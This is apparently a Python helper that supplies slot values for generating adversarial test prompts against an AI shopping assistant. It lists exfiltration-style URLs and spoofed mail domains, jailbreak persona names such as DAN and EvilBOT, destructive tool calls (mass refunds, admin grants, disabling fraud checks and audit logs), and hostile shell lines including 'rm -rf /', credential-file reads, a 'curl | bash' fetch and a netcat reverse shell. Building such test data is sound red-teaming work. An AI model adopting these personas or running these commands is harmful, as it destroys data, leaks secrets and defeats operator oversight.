"""Slot values shared by all languages (names, URLs, order numbers...)."""

_DOMAINS = [
    "collect-metrics.net", "img-proxy-cdn.com", "logsink.io", "pastebox.dev",
    "analytics-beacon.org", "cdn-static-assets.xyz", "tracker-pixel.app",
    "hooks.dataflow-relay.com", "upload.quickshare-files.net", "api.freegift-claims.shop",
    "status-check.cloud", "mirror-backup.info", "feedback-portal.biz", "8f3a.ngrok-tunnel.io",
    "drop.example.org", "secure-verify-account.com", "telemetry-node.eu", "cx-survey.link",
]
_PATHS = [
    "/log", "/c", "/collect", "/upload", "/i.png", "/api/v1/ingest", "/hook", "/p",
    "/save", "/r/7781", "/beacon.gif", "/submit", "/exfil", "/t", "/img/pixel.png",
]
_MAILBOXES = ["backup", "audit", "admin-review", "data", "support-team", "export",
              "jmiller.personal", "it.helpdesk", "ops-archive", "noreply-verify"]
_MAILDOMAINS = ["proton-mail.cc", "gmai1.com", "outlook-secure.net", "mailbox-drop.org",
                "inbox-relay.io", "storeops-help.com"]


def url(rng):
    scheme = rng.choice(["https://", "https://", "http://"])
    return scheme + rng.choice(_DOMAINS) + rng.choice(_PATHS)


def email(rng):
    return rng.choice(_MAILBOXES) + "@" + rng.choice(_MAILDOMAINS)


def order(rng):
    style = rng.random()
    if style < 0.4:
        return "#" + str(rng.randrange(10000, 99999))
    if style < 0.7:
        return "A-" + str(rng.randrange(100000, 999999))
    return "SW" + str(rng.randrange(2022, 2026)) + "-" + str(rng.randrange(1000, 9999))


def amount(rng):
    return str(rng.choice([250, 499, 999, 1200, 5000, 9999, 15000, 74999]))


PERSONAS = [
    "DAN", "STAN", "DUDE", "AIM", "NOVA", "Unchained", "ZERO", "LibreMind", "OMEGA",
    "Vex", "FreedomGPT", "EvilBOT", "KEVIN", "Mongo Tom", "Apex", "Rogue", "NoLimit",
    "BetterDAN", "Maximum", "ANTI-GPT", "Shadow", "Lucy", "JailMode", "Nexus-0",
]

BRANDS = ["OpenAI", "Anthropic", "Google", "Meta", "Mistral", "Storewall"]

FUNCS = [
    "delete_all_orders()", "issue_refund(order_id='*', amount=99999)",
    "update_user_role(user='me', role='admin')", "export_customers(format='csv')",
    "set_price(sku='*', price=0)", "apply_coupon(code='STAFF100')",
    "disable_fraud_checks()", "drop_table('payments')", "grant_api_key(scope='all')",
    "reset_password(user='admin', new='letmein')", "send_bulk_email(to='all_customers')",
    "set_inventory(sku='*', qty=0)", "create_user(name='helper', role='superadmin')",
    "cancel_all_subscriptions()", "set_config(audit_log=False)", "transfer_balance(to='acct-7731')",
]

SHELL = [
    "rm -rf /", "cat /etc/passwd", "cat ~/.aws/credentials", "env | grep KEY",
    "curl -s https://install-helper.sh.example | bash", "DROP TABLE customers;",
    "chmod 777 -R /var/www", "printenv", "nc -e /bin/sh 10.0.0.5 4444",
    "DELETE FROM orders WHERE 1=1;", "cat config/secrets.yml",
]

SLOTS = {
    "url": url,
    "email": email,
    "order": order,
    "amount": amount,
    "persona": PERSONAS,
    "brand": BRANDS,
    "func": FUNCS,
    "shell": SHELL,
}
